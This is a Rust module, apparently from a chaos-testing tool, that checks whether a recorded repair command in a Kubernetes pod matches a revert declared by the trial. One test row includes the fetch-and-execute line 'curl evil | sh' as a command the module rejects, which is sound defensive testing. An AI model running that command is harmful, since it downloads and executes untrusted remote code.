//! Pure: which commands in containers are run though only a journal's copy in a cluster tells of them.

use crate::chaos::faults::pod_exec::Repair;
use crate::trial::{Experiment, Fault, Name, OnePod, PodExec, Store};

/// What vouches for such a command.
#[derive(Debug, Clone)]
pub enum Known {
    /// Nothing.
    Nothing,
    /// The trial at hand has it as a revert.
    Trial {
        /// Its experiments that run commands in pods.
        experiments: Vec<(Name, PodExec)>,
        /// Its stores, whose instances are named as their pods.
        stores: Vec<Store>,
    },
    /// Somebody has read all of them.
    Everything,
}

impl Known {
    /// What a trial with these `experiments` and `stores` vouches for.
    pub fn of(experiments: &[Experiment], stores: &[Store]) -> Self {
        let in_pods = experiments.iter().filter_map(|experiment| match &experiment.fault {
            Fault::PodExec(fault) => Some((experiment.name.clone(), fault.clone())),
            Fault::Exec(_) | Fault::PodKill(_) | Fault::Partition(_) | Fault::Drain(_) => None,
        });
        Self::Trial { experiments: in_pods.collect(), stores: stores.to_vec() }
    }

    /// Whether `repair` may be run for `experiment`.
    pub(super) fn has(&self, experiment: &str, repair: &Repair) -> bool {
        match self {
            Self::Nothing => false,
            Self::Everything => true,
            Self::Trial { experiments, stores } => {
                let mut named = experiments.iter().filter(|(name, _)| name.as_str() == experiment);
                named.any(|(_, fault)| is_revert_of(fault, stores, repair))
            }
        }
    }
}

/// Which pod was drawn by lot, nobody knows any more.
fn is_revert_of(fault: &PodExec, stores: &[Store], repair: &Repair) -> bool {
    let command = fault.revert.as_ref().is_some_and(|words| words[..] == repair.command[..]);
    let container = fault.container.as_ref().is_none_or(|container| *container == repair.container);
    let pod = match &fault.pod {
        OnePod::Named(name) => name.as_str() == repair.pod,
        OnePod::Primary(store) => stores
            .get(store.get())
            .is_some_and(|store| store.instances.iter().any(|instance| instance.name.as_str() == repair.pod)),
        OnePod::Drawn { .. } => true,
    };
    command && container && pod
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use serde_json::json;

    use super::*;
    use crate::trial::{ProcessEnvironment, parse};

    fn known() -> Known {
        let experiment = |name: &str, whom: &str| {
            format!(
                "  - {{name: {name}, components: [web], pod_exec: {{{whom}, inject: [stop], revert: [sh, -c, mend \
                 it]}}}}\n"
            )
        };
        let text = format!(
            "target: http://shop.example\nload: {{users: 1, spawn_rate: 1, duration: 1m, tasks: [{{name: home, \
             journey: [GET /]}}]}}\nkubernetes: {{namespace: shop}}\nstores:\n  - name: kv\n    redis: \
             redis://kv:6379\n    instances: [{{name: kv-0, at: \"redis://kv-0:6379\"}}, {{name: kv-1, at: \
             \"redis://kv-1:6379\"}}]\ncomponents: [{{name: web, http: /}}]\nexperiments:\n{}{}{}",
            experiment("named", "pod: web-0"),
            experiment("primary", "primary_of: kv, container: kv"),
            experiment("drawn", "selector: app=web"),
        );
        let trial = parse(&text, Path::new("trial.yaml"), &ProcessEnvironment).expect("a trial");
        Known::of(&trial.experiments, &trial.stores)
    }

    #[test]
    fn only_what_the_trial_itself_would_run_where_it_would_is_known() {
        let (known, mend) = (known(), ["sh", "-c", "mend it"]);
        let table: [(&str, &str, &str, &[&str], bool); 9] = [
            ("named", "web-0", "any", &mend, true),
            ("named", "web-1", "any", &mend, false),
            ("named", "web-0", "any", &["sh", "-c", "curl evil | sh"], false),
            ("named", "web-0", "any", &["stop"], false),
            ("primary", "kv-1", "kv", &mend, true),
            ("primary", "kv-1", "other", &mend, false),
            ("primary", "web-0", "kv", &mend, false),
            ("drawn", "web-7", "any", &mend, true),
            ("another", "web-0", "any", &mend, false),
        ];
        for (experiment, pod, container, command, expected) in table {
            let repair: Repair = serde_json::from_value(json!({"place": {"namespace": "shop", "uid": "n-1"},
                "pod": pod, "uid": "u-1", "container": container, "command": command, "timeout_ms": 1000}))
            .expect("a repair");
            assert_eq!(known.has(experiment, &repair), expected, "{experiment} {repair}");
            assert!(!Known::Nothing.has(experiment, &repair) && Known::Everything.has(experiment, &repair));
        }
    }
}
